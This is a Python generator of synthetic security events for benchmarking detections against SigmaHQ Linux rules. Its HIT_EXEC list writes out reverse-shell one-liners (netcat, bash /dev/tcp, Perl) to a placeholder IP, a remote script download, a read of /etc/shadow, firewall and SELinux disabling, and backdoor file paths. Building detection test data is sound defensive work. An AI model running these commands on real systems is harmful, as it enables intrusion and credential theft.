#!/usr/bin/env python3
"""Deterministic ECS event corpus for the detection benchmark (bench/detect.sh).

Writes N NDJSON events shaped like `mamori-agent capture` output on a busy server: about 70% exec
(command lines from ~160 templates of real commands filled with varied arguments), 20% file
(creation, modification, deletion, rename) and 10% network (connection attempted / accepted).
About --hit-rate of the events (default 0.1%) are attacks that SigmaHQ Linux rules detect, so the
hit path runs too. The same --seed gives the same bytes.

usage: detect_events.py --out FILE [--count N] [--seed S] [--hit-rate F]
"""
import argparse
import hashlib
import json
import random
import shlex
import sys
import time

HOSTS = ["web-01", "web-02", "db-01", "ci-runner-3", "app-07"]
USERS = [("0", "root"), ("33", "www-data"), ("1000", "deploy"), ("1001", "alice"),
         ("999", "postgres"), ("1002", "bob"), ("998", "jenkins")]
SERVICES = ["nginx", "postgresql", "redis-server", "docker", "ssh", "cron", "rsyslog",
            "containerd", "php8.2-fpm", "gunicorn", "node-exporter", "prometheus",
            "grafana-server", "haproxy", "memcached", "elasticsearch", "kubelet", "chrony"]
PKGS = ["libssl3", "openssl", "nginx-common", "python3-yaml", "tzdata", "ca-certificates",
        "linux-image-amd64", "libc6", "git", "jq", "htop", "postgresql-15", "zlib1g", "curl"]
DIRS = ["/var/www/html", "/srv/app", "/opt/app/releases/20261121", "/var/lib/postgresql/15/main",
        "/home/deploy/app", "/etc/nginx/sites-enabled", "/var/log/nginx", "/srv/data/uploads",
        "/var/cache/apt/archives", "/usr/share/doc", "/opt/monitoring", "/home/alice/projects",
        "/var/lib/docker/volumes", "/srv/backups", "/etc/systemd/system", "/usr/local/lib"]
WORDS = ["error", "timeout", "GET /api", "status=500", "ERROR", "Connection refused", "deploy",
         "upstream", "WARN", "session", "user_id", "OOM", "panic", "listen", "worker", "ssl"]
FILES = ["config.yml", "settings.py", "app.log", "index.html", "package.json", "Makefile",
         "requirements.txt", "main.go", "server.js", "README.md", "schema.sql", "nginx.conf",
         "docker-compose.yml", "values.yaml", "Cargo.toml", "access.log", "error.log", "data.csv"]
REPOS = ["api", "frontend", "billing", "auth-service", "infra", "docs", "worker", "etl"]
NAMESPACES = ["default", "kube-system", "monitoring", "prod", "staging", "ingress-nginx"]
PY = ["manage.py", "worker.py", "etl/run.py", "scripts/rotate_keys.py", "app.py", "tasks.py"]
INTERNAL_IPS = ["10.0.%d.%d" % (a, b) for a in range(4) for b in range(2, 40)]
PUBLIC_IPS = ["151.101.%d.%d" % (a, b) for a in (1, 65, 129) for b in (69, 133)] + [
    "140.82.121.4", "104.16.132.229", "142.250.185.78", "52.84.150.39", "185.199.108.153",
    "199.232.46.132", "13.107.42.14", "34.117.59.81", "91.189.91.38", "185.125.190.36"]
PORTS_OUT = [443, 443, 443, 80, 5432, 6379, 53, 9200, 8080, 3306, 11211, 9090, 22]
PORTS_IN = [22, 80, 443, 443, 8080, 5432, 9100]

# Busy-server command vocabulary: (weight, template). Placeholders are filled per event.
VOCAB = [
    (30, "ls -la {dir}"), (8, "ls {dir}"), (4, "ls -lh --color=auto {dir}"),
    (12, "cat {dir}/{file}"), (6, "cat /proc/{pid}/status"), (4, "cat /proc/meminfo"),
    (3, "cat /sys/fs/cgroup/memory.max"),
    (10, "grep -i {word_q} /var/log/nginx/error.log"), (6, "grep -rn {word_q} {dir}"),
    (4, "grep -c {word_q} /var/log/syslog.1"), (3, "zgrep {word_q} /var/log/nginx/access.log.2.gz"),
    (6, "sed -i s/{word_s}/{word_s2}/g {dir}/{file}"), (3, "sed -n 1,{n}p {dir}/{file}"),
    (5, "awk -F: {{print $1}} /etc/group"), (4, "awk {{s+=$10}} END {{print s}} /var/log/nginx/access.log"),
    (8, "tail -n {n} /var/log/nginx/access.log"), (5, "tail -F /srv/app/logs/app.log"),
    (6, "wc -l {dir}/{file}"), (6, "sort -u /tmp/tmp.{tok}"), (3, "uniq -c"),
    (5, "cut -d, -f{n2} {dir}/{file}"), (4, "tr -d \\r"), (3, "xargs -0 -n1 echo"),
    (6, "date +%s"), (4, "date -u +%Y-%m-%dT%H:%M:%SZ"), (4, "sleep {n2}"), (3, "true"),
    (3, "basename {dir}/{file}"), (3, "dirname {dir}/{file}"), (3, "readlink -f {dir}"),
    (3, "realpath {dir}/{file}"), (4, "mktemp -d"), (4, "mktemp /tmp/tmp.XXXXXXXXXX"),
    (4, "mkdir -p {dir}/cache/{tok}"), (5, "cp -a {dir}/{file} {dir}/{file}.bak"),
    (4, "mv {dir}/{file}.tmp {dir}/{file}"), (3, "ln -sfn /opt/app/releases/{n5} /opt/app/current"),
    (4, "touch {dir}/.deploy-stamp"), (3, "chown -R www-data:www-data /var/www/html/uploads"),
    (3, "chmod 0644 /srv/app/{file}"), (4, "stat -c %Y {dir}/{file}"), (3, "du -sh {dir}"),
    (3, "df -h /"), (2, "df -P /var/lib/docker"), (3, "free -m"), (2, "nproc"),
    (6, "ps -eo pid,ppid,cmd,%mem --sort=-%mem"), (3, "pgrep -f gunicorn"), (2, "pidof nginx"),
    (5, "systemctl status {svc}"), (4, "systemctl is-active {svc}"),
    (3, "systemctl restart {svc}"), (2, "systemctl reload nginx"), (2, "systemctl daemon-reload"),
    (2, "systemctl list-timers --all"), (3, "journalctl -u {svc} --since -{n2}min --no-pager"),
    (2, "journalctl -p err -b --no-pager"), (3, "logger -t backup finished rc=0"),
    (3, "logrotate /etc/logrotate.conf"), (2, "run-parts --report /etc/cron.hourly"),
    (2, "savelog -q -c 7 /var/log/app.log"),
    (4, "tar -czf /srv/backups/{repo}-{n5}.tar.gz -C {dir} ."), (3, "tar -xzf /tmp/{repo}.tar.gz -C /opt/app"),
    (3, "gzip -9 /var/log/app/app.log.1"), (2, "zstd -q -T0 /srv/backups/db-{n5}.sql"),
    (2, "sha256sum /srv/backups/{repo}-{n5}.tar.gz"),
    (2, "md5sum {dir}/{file}"), (2, "gpg --batch --verify /tmp/{repo}.tar.gz.asc"),
    (8, "git -C /srv/{repo} status --porcelain"), (5, "git -C /srv/{repo} fetch --prune origin"),
    (4, "git rev-parse HEAD"), (3, "git log -n {n2} --oneline"), (3, "git diff --stat HEAD~1"),
    (2, "git checkout -q {tok}"), (2, "git submodule update --init"),
    (6, "python3 /srv/app/{py} --config /etc/app/{file}"), (4, "python3 -m pip install -q -r requirements.txt"),
    (3, "python3 -m pytest -q tests/test_{repo}.py"), (3, "/srv/app/venv/bin/python /srv/app/{py}"),
    (2, "python3 -c import sys; print(sys.version)"),
    (4, "node /srv/{repo}/dist/server.js"), (3, "npm run build"), (3, "npm ci --no-audit"),
    (2, "npx eslint src"), (3, "java -Xmx2g -jar /opt/{repo}/{repo}.jar --spring.profiles.active=prod"),
    (2, "mvn -q -B package -DskipTests"), (3, "go build -o bin/{repo} ./cmd/{repo}"), (2, "go test ./..."),
    (4, "make -j2"), (3, "cc -O2 -c src/{repo}.c -o build/{repo}.o"), (2, "ld -o build/{repo} build/{repo}.o"),
    (3, "as --64 -o /tmp/cc{tok}.o /tmp/cc{tok}.s"),
    (2, "collect2 -plugin /usr/libexec/gcc/x86_64-linux-gnu/12/liblto_plugin.so"),
    (4, "docker ps --format {{{{.Names}}}}"), (3, "docker inspect {repo}"), (3, "docker logs --tail {n} {repo}"),
    (2, "docker pull registry.internal:5000/{repo}:{n5}"), (2, "docker compose up -d {repo}"),
    (2, "docker image prune -f"), (3, "runc --root /run/containerd/runc/k8s.io state {tok}"),
    (3, "containerd-shim-runc-v2 -namespace k8s.io -id {tok} -address /run/containerd/containerd.sock"),
    (4, "kubectl get pods -n {ns} -o wide"), (2, "kubectl rollout status deploy/{repo} -n {ns}"),
    (2, "kubectl logs -n {ns} deploy/{repo} --since=5m"), (2, "helm upgrade --install {repo} ./charts/{repo} -n {ns}"),
    (4, "psql -U postgres -d {repo} -c SELECT count(*) FROM jobs WHERE state = 'queued'"),
    (2, "pg_dump -Fc -d {repo} -f /srv/backups/db-{n5}.dump"), (2, "pg_isready -q -h 127.0.0.1"),
    (3, "redis-cli -h 127.0.0.1 INFO memory"), (2, "redis-cli LLEN queue:{repo}"),
    (2, "mysqladmin --defaults-file=/etc/mysql/debian.cnf ping"),
    (3, "nginx -t -q"), (2, "nginx -s reload"), (2, "php /var/www/html/artisan schedule:run"),
    (3, "php-fpm8.2 --test"), (2, "certbot renew --quiet --no-random-sleep-on-renew"),
    (3, "openssl x509 -noout -enddate -in /etc/ssl/certs/{repo}.pem"),
    (2, "openssl rand -hex 16"), (3, "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub"),
    (3, "apt-get -qq update"), (2, "apt-cache policy {pkg}"), (3, "dpkg-query -W -f=${{Version}} {pkg}"),
    (2, "dpkg -l {pkg}"), (2, "unattended-upgrade -d"), (2, "apt-config shell StateDir Dir::State"),
    (2, "update-alternatives --query java"), (2, "ldconfig"), (2, "depmod -a"),
    (2, "env"), (2, "printenv PATH"), (2, "getent passwd {user}"),
    (2, "locale"), (2, "tput cols"), (2, "stty -echo"), (2, "test -f {dir}/{file}"),
    (2, "timeout 30 /usr/local/bin/healthcheck --url http://127.0.0.1:{port_in}/health"),
    (2, "flock -n /run/lock/{repo}.lock /usr/local/bin/{repo}-job"),
    (2, "ionice -c3 nice -n19 /usr/local/bin/backup.sh"), (2, "sudo -n -u {user} /usr/local/bin/deploy {repo}"),
    (2, "su -s /bin/sh -c /usr/lib/php/sessionclean www-data"),
    (2, "/usr/lib/php/sessionclean"), (2, "/usr/sbin/anacron -s"), (2, "/usr/lib/apt/apt.systemd.daily update"),
    (3, "/usr/bin/prometheus-node-exporter --collector.textfile.directory=/var/lib/node_exporter"),
    (2, "/usr/local/bin/{repo}-job --batch {n}"), (3, "/opt/app/current/bin/{repo} migrate --yes"),
    (2, "vmstat 1 2"), (2, "iostat -x 1 2"), (2, "sar -u 1 1"), (2, "lsblk -J"),
    (2, "mount -l -t ext4"), (2, "blkid -o value -s UUID /dev/vda1"),
    (2, "dig +short {repo}.internal"),
    (2, "host {repo}.internal 10.0.0.2"), (2, "jq -r .version package.json"), (2, "yq e .image.tag charts/{repo}/values.yaml"),
    (2, "envsubst < /etc/app/{file}.tmpl"), (2, "htpasswd -bB /etc/nginx/.htpasswd {user} {tok}"),
]

# Shells and daemons the commands run under: (weight, executable, command line).
PARENTS = [
    (30, "/usr/bin/bash", "-bash"), (15, "/usr/bin/bash", "bash /usr/local/bin/deploy.sh"),
    (12, "/usr/bin/dash", "/bin/sh -c /usr/local/bin/backup.sh"),
    (10, "/usr/sbin/cron", "/usr/sbin/cron -f -P"), (8, "/usr/lib/systemd/systemd", "/sbin/init"),
    (6, "/usr/bin/make", "make -j2"), (5, "/usr/bin/python3.11", "python3 /srv/app/manage.py runjobs"),
    (4, "/usr/bin/containerd-shim-runc-v2",
    "/usr/bin/containerd-shim-runc-v2 -namespace moby -id 4f1c2e -address /run/containerd/containerd.sock"),
    (3, "/usr/bin/gcc-12", "gcc -O2 -c src/main.c"), (3, "/usr/bin/sudo", "sudo -u deploy /usr/local/bin/deploy api"),
    (2, "/usr/bin/tmux", "tmux new -s ops"), (2, "/usr/bin/git", "git pull --rebase"),
]
SBIN = {"systemctl", "sysctl", "logrotate", "ldconfig", "depmod", "nginx", "php-fpm8.2",
        "unattended-upgrade", "blkid", "lsblk", "mount"}

# Attacks SigmaHQ Linux rules detect (each raised at least one alert with `mamori scan` when this
# list was written): exec command lines, then files written. A bash connecting out is the third.
HIT_EXEC = [
    "nc -e /bin/sh 203.0.113.7 4444",
    "python3 -c import pty;pty.spawn(\"/bin/bash\")",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "chattr -i /etc/ld.so.preload",
    "base64 -d /tmp/.x.b64",
    "userdel -r backdoor",
    "crontab -r",
    "iptables -F",
    "ufw disable",
    "history -c",
    "setenforce 0",
    "perl -e use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
    "cat /etc/shadow",
    "find / -perm -4000 -type f",
    "wget http://203.0.113.7/x.sh -O /tmp/x.sh",
    "/dev/shm/kworker -B -o pool.example:3333",
    "systemctl mask sleep.target suspend.target",
]
HIT_FILES = ["/etc/sudoers.d/99-backdoor", "/etc/cron.d/update-check", "/etc/doas.conf",
             "/etc/profile.d/zz-update.sh"]

class Gen:
    def __init__(self, seed, hosts):
        self.r = random.Random(seed)
        self.t = 1795000000.0  # 2026-11-17, then ~1,000 events/s
        self.seq = 0
        self.pid = 20000
        self.hosts = hosts
        self.procs = []  # long-lived processes that open files and sockets
        vw = [w for w, _ in VOCAB]
        self.vocab_cum = self._cum(vw)
        self.par_cum = self._cum([w for w, _, _ in PARENTS])
        # Live shells and daemons that start the commands: a session runs many commands, and a
        # few sessions end and new ones start as time goes on.
        self.parents = [self._new_parent() for _ in range(1500)]
        for _ in range(400):
            self.procs.append(self._proc(self._cmdline(), self._parent()))

    @staticmethod
    def _cum(weights):
        out, s = [], 0
        for w in weights:
            s += w
            out.append(s)
        return out

    def _pick(self, items, cum):
        return items[self.r.choices(range(len(items)), cum_weights=cum)[0]]

    def hexid(self, n=32):
        return "%0*x" % (n, self.r.getrandbits(4 * n))

    def ts(self):
        self.t += self.r.expovariate(1000.0)
        whole = int(self.t)
        frac = int((self.t - whole) * 1e9)
        return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(whole)) + ".%09dZ" % frac

    def next_pid(self):
        self.pid += self.r.randint(1, 7)
        if self.pid > 4000000:
            self.pid = 20000
        return self.pid

    def _fill(self, tmpl):
        r = self.r
        user = r.choice(USERS)[1]
        return tmpl.format(
            dir=r.choice(DIRS), file=r.choice(FILES), word_q=shlex.quote(r.choice(WORDS)),
            word_s=r.choice(WORDS).split()[0].lower(), word_s2=r.choice(WORDS).split()[0].lower(),
            n=r.choice([10, 20, 50, 100, 200, 500, 1000]), n2=r.randint(1, 9),
            n5=r.randint(10000, 99999), tok=self.hexid(8), svc=r.choice(SERVICES),
            pkg=r.choice(PKGS), repo=r.choice(REPOS), ns=r.choice(NAMESPACES), py=r.choice(PY),
            user=user, port_in=r.choice(PORTS_IN), pid=r.randint(300, 60000))

    def _cmdline(self):
        return self._fill(self._pick(VOCAB, self.vocab_cum)[1])

    def _exe(self, name):
        if name.startswith("/"):
            return name
        if name == "python3":
            return "/usr/bin/python3.11"
        return ("/usr/sbin/" if name in SBIN else "/usr/bin/") + name

    def _proc(self, cmdline, parent=None):
        try:
            args = shlex.split(cmdline)
        except ValueError:
            args = cmdline.split()
        exe = self._exe(args[0])
        uid, uname = self.r.choice(USERS)
        return {"pid": self.next_pid(), "entity_id": self.hexid(), "executable": exe,
                "name": exe.rsplit("/", 1)[1], "args": args, "command_line": cmdline,
                "working_directory": self.r.choice(DIRS), "uid": uid, "user": uname,
                "parent": parent}

    def _new_parent(self):
        _, exe, cl = self._pick(PARENTS, self.par_cum)
        return {"pid": self.r.randint(300, 20000), "entity_id": self.hexid(), "executable": exe,
                "name": exe.rsplit("/", 1)[1], "command_line": cl}

    def _parent(self):
        i = self.r.randrange(len(self.parents))
        if self.r.random() < 0.01:
            self.parents[i] = self._new_parent()
        return self.parents[i]

    def head(self, category, types, action):
        self.seq += 1
        return {"@timestamp": self.ts(),
                "event": {"kind": "event", "category": [category], "type": types,
                          "action": action, "sequence": self.seq},
                "host": {"name": self.r.choice(self.hosts),
                         "boot": {"id": "45ea832b-746c-4e8f-82da-6355ea83aabd"}}}

    @staticmethod
    def _ecs_parent(p):
        return {"pid": p["pid"], "entity_id": p["entity_id"], "executable": p["executable"],
                "name": p["name"], "command_line": p["command_line"]}

    def exec_event(self, cmdline=None):
        p = self._proc(cmdline or self._cmdline(), self._parent())
        ev = self.head("process", ["start"], "exec")
        proc = {"pid": p["pid"], "entity_id": p["entity_id"], "executable": p["executable"],
                "name": p["name"], "args": p["args"], "args_count": len(p["args"]),
                "command_line": p["command_line"], "working_directory": p["working_directory"],
                "start": ev["@timestamp"]}
        if self.r.random() < 0.6:
            proc["hash"] = {"sha256": hashlib.sha256(p["executable"].encode()).hexdigest()}
        proc.update({"session_leader": {"pid": p["parent"]["pid"]}, "user": {"id": p["uid"]},
                     "real_user": {"id": p["uid"]}, "group": {"id": p["uid"]},
                     "real_group": {"id": p["uid"]}, "parent": self._ecs_parent(p["parent"])})
        ev["process"] = proc
        ev["user"] = {"id": p["uid"], "name": p["user"]}
        if not cmdline and self.r.random() < 0.3:
            self.procs[self.r.randrange(len(self.procs))] = p
        return ev

    def _owner(self, ev, full=True):
        p = self.r.choice(self.procs)
        proc = {"pid": p["pid"], "entity_id": p["entity_id"]}
        if full:
            proc.update({"executable": p["executable"], "name": p["name"],
                         "command_line": p["command_line"], "start": ev["@timestamp"]})
            if p["parent"]:
                proc["parent"] = self._ecs_parent(p["parent"])
        ev["process"] = proc
        return p

    def file_event(self, path=None):
        r = self.r
        kind = r.choices(["creation", "modification", "deletion", "rename"], [3, 5, 2, 1])[0]
        if path:
            kind = "creation"
        types = {"creation": ["creation"], "modification": ["change"],
                 "deletion": ["deletion"], "rename": ["change"]}[kind]
        ev = self.head("file", types, kind)
        self._owner(ev, full=kind != "deletion" or r.random() < 0.5)
        if not path:
            d = r.choice(DIRS + ["/tmp", "/var/tmp", "/run/user/1000", "/var/lib/apt/lists"])
            name = r.choice(FILES) if r.random() < 0.6 else "tmp.%s" % self.hexid(10)
            path = d + "/" + name
        d, name = path.rsplit("/", 1)
        f = {"path": path, "name": name, "directory": d or "/"}
        if kind != "deletion":
            f.update({"mode": "0644", "uid": "0", "gid": "0", "inode": r.randint(1000, 9999999),
                      "size": r.randint(0, 1 << 20)})
        if kind == "rename":
            f["Ext"] = {"original": {"path": path + ".tmp", "name": name + ".tmp"}}
        ev["file"] = f
        ev["mamori"] = {"source": "fanotify"}
        return ev

    def net_event(self, exe=None):
        r = self.r
        out = exe is not None or r.random() < 0.75
        ev = self.head("network", ["start", "connection"],
                       "connection_attempted" if out else "connection_accepted")
        p = self._owner(ev, full=False)
        if exe or r.random() < 0.8:
            ev["process"]["executable"] = exe or p["executable"]
            ev["process"]["name"] = ev["process"]["executable"].rsplit("/", 1)[1]
        ev["process"]["start"] = ev["@timestamp"]
        uid, uname = r.choice(USERS)
        ev["user"] = {"id": uid, "name": uname}
        me = r.choice(INTERNAL_IPS)
        if exe:
            peer, port = "203.0.113.7", 4444
        elif out:
            peer = r.choice(PUBLIC_IPS if r.random() < 0.4 else INTERNAL_IPS)
            port = r.choice(PORTS_OUT)
        else:
            peer, port = r.choice(PUBLIC_IPS + INTERNAL_IPS), r.choice(PORTS_IN)
        if out:
            ev["source"] = {"ip": me, "port": r.randint(32768, 60999)}
            ev["destination"] = {"ip": peer, "port": port}
        else:
            ev["source"] = {"ip": peer, "port": r.randint(32768, 60999)}
            ev["destination"] = {"ip": me, "port": port}
        ev["network"] = {"transport": "tcp", "type": "ipv4",
                         "direction": "egress" if out else "ingress"}
        return ev

    def event(self, hit_rate):
        r = self.r
        if r.random() < hit_rate:
            k = r.random()
            if k < 0.8:
                return self.exec_event(r.choice(HIT_EXEC))
            if k < 0.9:
                return self.file_event(r.choice(HIT_FILES))
            return self.net_event("/usr/bin/bash")
        k = r.random()
        if k < 0.7:
            return self.exec_event()
        if k < 0.9:
            return self.file_event()
        return self.net_event()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True)
    ap.add_argument("--count", type=int, default=1000000)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--hit-rate", type=float, default=0.001)
    a = ap.parse_args()
    g = Gen(a.seed, HOSTS)
    dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode
    with open(a.out, "w", encoding="utf-8") as f:
        buf = []
        for i in range(a.count):
            buf.append(dumps(g.event(a.hit_rate)))
            if len(buf) == 10000:
                f.write("\n".join(buf) + "\n")
                buf = []
        if buf:
            f.write("\n".join(buf) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
